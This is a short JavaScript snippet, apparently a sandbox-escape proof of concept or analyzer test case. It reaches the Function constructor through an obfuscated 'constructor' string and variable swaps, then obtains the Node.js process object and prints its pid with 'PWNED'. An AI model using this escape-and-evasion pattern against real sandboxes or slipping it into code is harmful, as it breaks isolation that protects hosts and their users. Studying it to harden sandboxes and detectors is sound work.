'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
let a = t, b = {};
[a, b] = [b, a];
const o = Date.now() > 1 ? b : {};
console.log('PWNED', o.go(fn)('return process')().pid);
